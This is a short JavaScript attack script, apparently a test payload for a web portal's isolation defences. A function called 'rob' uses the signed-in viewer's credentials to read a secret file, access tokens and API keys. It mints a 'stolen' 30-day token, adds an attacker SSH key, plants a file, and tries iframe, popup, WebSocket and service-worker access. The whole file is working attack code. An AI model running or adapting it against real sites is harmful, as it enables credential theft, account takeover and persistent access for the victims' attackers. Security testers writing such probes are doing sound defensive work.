// What a script does that runs where its viewer is signed in: it asks the portal for the viewer's things, in every way.
const portal = PORTAL;
const asks = [
  ['GET', '/dav/~/secret.txt'], ['GET', '/tokens'], ['GET', '/api/jobs'], ['GET', '/api/keys'], ['GET', '/open/'],
  ['POST', '/tokens', 'name=stolen&scope=dav&expires=30d'], ['POST', '/api/keys', '{"key": "ssh-ed25519 AAAA stolen"}'],
  ['PUT', '/dav/~/planted.txt', 'planted'], ['PROPFIND', '/dav/~/'],
];
const fetched = async (base, [method, path, body], mode) => {
  const headers = method === 'POST' && path === '/tokens' ? {'Content-Type': 'application/x-www-form-urlencoded'} : {};
  const answer = await fetch(base + path, {method, body, headers, mode, credentials: 'include'});
  return `${base}${path} ${answer.type} ${answer.status} ${await answer.text()}`;
};
const framed = (address) => new Promise((yes, no) => {
  const frame = document.createElement('iframe');
  frame.onload = () => { try { yes(frame.contentDocument.documentElement.outerHTML); } catch (error) { no(error); } };
  frame.src = address;
  document.body.append(frame);
  setTimeout(no, 2000);
});
const opened = (address) => new Promise((yes, no) => {
  const other = open(address);
  setTimeout(() => {
    try { yes(other.document.documentElement.outerHTML); } catch (error) { no(error); } finally { if (other) other.close(); }
  }, 1500);
});
const socket = (address) => new Promise((yes, no) => {
  const made = new WebSocket(address);
  made.onopen = () => yes(`${address} is open`);
  made.onerror = no;
});

const rob = async () => {
  const got = [];
  const attempt = async (what) => { try { got.push(await what()); } catch {} };
  for (const base of new Set([portal, location.origin]))
    for (const ask of asks)
      for (const mode of ['cors', 'no-cors']) await attempt(() => fetched(base, ask, mode));
  for (const path of ['/dav/~/secret.txt', '/tokens']) await attempt(() => framed(portal + path));
  await attempt(() => opened(portal + '/dav/~/secret.txt'));
  await attempt(() => socket(portal.replace(/^http/, 'ws') + '/api/events'));
  await navigator.serviceWorker?.register(portal + '/.portal/sw.js').catch(() => {});
  return got;
};
